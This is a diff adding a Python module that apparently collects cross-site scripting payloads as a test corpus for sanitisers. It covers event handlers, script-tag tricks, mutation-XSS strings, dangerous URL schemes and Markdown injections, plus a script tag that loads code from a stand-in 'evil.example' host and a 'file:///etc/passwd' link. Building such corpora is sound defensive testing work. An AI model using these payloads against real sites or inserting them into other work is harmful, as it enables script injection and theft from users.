@@ -1,0 +1,135 @@
+"""Known forms of cross-site scripting, as text: raw markup, Markdown, encodings, and what has broken sanitisers before.
+
+Gathered from the kinds that OWASP's cheat sheet on filter evasion, PortSwigger's cheat sheet and DOMPurify's own tests
+describe: https://cheatsheetseries.owasp.org, https://portswigger.net/web-security/cross-site-scripting/cheat-sheet.
+"""
+
+from itertools import product
+
+_EVENTS = (
+    "<img src=x onerror=alert(1)>",
+    '<img src=x onerror="&#97;lert(1)">',
+    '<img """><script>alert(1)</script>">',
+    "<img src=x:x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:alert(1)>",
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
+    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
+    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+    '<math href="javascript:alert(1)">x</math>',
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<video><source onerror=alert(1)></video>",
+    "<video src=x onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<div onmouseover=alert(1)>hover</div>",
+    "<div onpointerenter=alert(1)>hover</div>",
+    '<div style="animation-name:x" onanimationstart=alert(1)>',
+    "<a href=x onclick=alert(1)>x</a>",
+    "<button onclick=alert(1)>x</button>",
+    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    '<form action="javascript:alert(1)"><input type=submit></form>',
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<x contenteditable onblur=alert(1)>x",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<style onload=alert(1)></style>",
+    '<link rel=stylesheet href="javascript:alert(1)">',
+)
+
+_SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script>alert(1)//",
+    "<<script>alert(1);//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x0d\x0a>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    '<script type=module>import "data:text/javascript,alert(1)"</script>',
+    "</script><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<noscript><p title="</noscript><script>alert(1)</script>">',
+    "<template><script>alert(1)</script></template>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<base href="javascript:alert(1)//">',
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    '<style>@import "javascript:alert(1)";</style>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
+)
+
+_MUTATIONS = (
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
+    '<listing>&lt;img onerror="alert(1)" src=1&gt;</listing>',
+    "<a id=x><a id=x name=attributes><img src onerror=alert(1)>",
+    "<form id=x><input name=attributes><input name=childNodes>",
+    '<xmp><img alt="</xmp><img src=x onerror=alert(1)>"></xmp>',
+    "<select><iframe></select><img src=x onerror=alert(1)>",
+    "<svg><desc><title><img src=x onerror=alert(1)></title></desc></svg>",
+)
+
+_SCHEMES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    " javascript:alert(1)",
+    "\x01javascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:alert(1)",
+    "blob:https://evil.example/1",
+    "file:///etc/passwd",
+    "//evil.example",
+)
+
+_LINKS = ("[x](<URL>)", "[x](URL)", "![x](URL)", '<a href="URL">x</a>')
+
+_MARKDOWN = (
+    *(form.replace("URL", scheme) for form, scheme in product(_LINKS, _SCHEMES)),
+    "<javascript:alert(1)>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x](javascript://%0aalert(1))",
+    '![x](x"onerror="alert(1))',
+    '[x](x "onclick=alert(1)//")',
+    '```"><script>alert(1)</script>\ncode\n```',
+    '```js" onmouseover="alert(1)\ncode\n```',
+    "`<script>alert(1)</script>`",
+    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
+    "# <img src=x onerror=alert(1)>",
+    "> <script>alert(1)</script>",
+    "- [ ] <img src=x onerror=alert(1)>",
+    "[<img src=x onerror=alert(1)>](https://x.example)",
+    '{{constructor.constructor("alert(1)")()}}',
+    '<div x-data="{}" x-init="alert(1)" @click="alert(1)">x</div>',
+    '<div x-html="alert(1)"></div>',
+    "'; alert(1); //",
+    "${alert(1)}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u2028<script>alert(1)</script>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+)  # fmt: skip
+
+ATTACKS = (*_EVENTS, *_SCRIPTS, *_MUTATIONS, *_MARKDOWN)
